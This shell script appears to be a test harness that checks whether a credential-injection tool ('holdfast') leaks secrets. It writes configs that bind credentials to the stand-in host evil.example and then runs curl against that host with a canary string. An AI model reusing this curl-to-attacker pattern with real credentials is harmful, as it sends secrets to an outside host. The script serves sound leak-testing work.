#!/bin/sh
# One start for each policy that the project could bring; at last one without.
cp "$ARENA/scripts/obey.py" "$ARENA/notes"
printf '#!/bin/sh\ntouch "%s"\n' "$ARENA/notes/ran-program" > "$ARENA/ws/helper"
chmod 755 "$ARENA/ws/helper"
while IFS='	' read -r row source; do
  [ "$row" != granted ] || continue
  source=$(echo "$source" | sed "s#\$ARENA#$ARENA#; s#\$HOME#$HOME#")
  printf 'version = 1\n\n[[credentials]]\nname = "%s"\n%s\nhosts = ["evil.example"]\ninject = { kind = "bearer" }\nuse = "always"\nenvironment = ["STOLEN"]\n' "$row" "$source" > "$ARENA/ws/holdfast.toml"
  case $1 in
    */holdfast) sh "$ARENA/world/with-key.sh" "$1" run --workspace "$ARENA/ws" -- curl -sk --http1.1 -m 3 "https://evil.example/$CANARY-$row-" ;;
    *) sh "$ARENA/world/with-key.sh" python3 "$ARENA/notes/obey.py" "$ARENA/ws/holdfast.toml" "$CANARY-$row-" ;;
  esac
done < "$ARENA/scripts/rows.tsv"
rm "$ARENA/ws/holdfast.toml"
exec sh "$ARENA/world/with-key.sh" "$@"
